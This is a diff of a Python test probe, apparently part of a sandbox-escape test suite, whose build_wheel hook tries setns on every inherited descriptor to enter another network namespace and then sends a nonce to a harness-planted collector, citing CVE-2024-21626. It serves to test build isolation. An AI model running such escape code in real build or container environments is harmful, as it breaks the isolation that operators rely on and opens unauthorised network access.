@@ -1,8 +1,12 @@
-"""Tries to enter the network namespace behind every inherited descriptor, and sends from there."""
+"""Tries to enter the network namespace behind every inherited descriptor, and sends from there.
 
-import ctypes
+A supervisor that once visited a namespace may still hold its descriptor. CVE-2024-21626
+was the same with a directory: runc left one open, and the container walked out through it.
+"""
+
 import socket
 
+import calls
 import kit
 
 CLONE_NEWNET = 0x40000000
@@ -10,10 +14,9 @@ CLONE_NEWNET = 0x40000000
 
 def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
     with kit.attempt("enter"):
-        libc = ctypes.CDLL(None, use_errno=True)
-        entered = [number for number in range(3, 256) if libc.setns(number, CLONE_NEWNET) == 0]
+        entered = [at for at in range(3, 256) if calls.libc.setns(at, CLONE_NEWNET) == 0]
         if not entered:
-            raise OSError(ctypes.get_errno(), "setns")
+            raise OSError("no descriptor leads to another network")
         collector = kit.plant("collector")
         with socket.create_connection((collector.address, collector.port), timeout=3) as out:
             out.sendall(f"{kit.nonce}\n".encode())
